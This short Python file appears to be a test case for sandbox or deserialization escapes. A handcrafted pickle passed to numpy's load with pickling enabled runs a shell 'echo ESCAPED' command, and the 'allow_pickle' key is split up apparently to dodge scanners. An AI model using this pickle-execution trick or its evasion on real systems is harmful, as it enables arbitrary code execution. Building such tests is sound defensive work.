# kind: numpy
# effect: prints ESCAPED
import io

import numpy as np

options = dict([("allow" + "_pickle", True)])
np.load(io.BytesIO(b"cos\nsystem\n(S'echo ESCAPED'\ntR."), **options)
